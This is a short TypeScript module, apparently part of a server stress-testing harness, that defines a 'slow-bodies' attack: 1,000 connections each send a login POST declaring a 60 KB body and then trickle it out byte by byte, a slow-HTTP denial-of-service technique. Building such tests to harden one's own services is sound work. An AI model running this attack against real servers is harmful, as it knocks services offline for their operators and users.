import type { Attack } from '../attacker/attack.js';
import { dripBytes } from '../attacker/drip-bytes.js';

export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: '1,000 connections promise a body of 60 KB and send it byte by byte',
  run: (signal, target) =>
    dripBytes(signal, target, {
      connections: 1_000,
      head: 'POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{',
      drop: ' ',
    }),
};
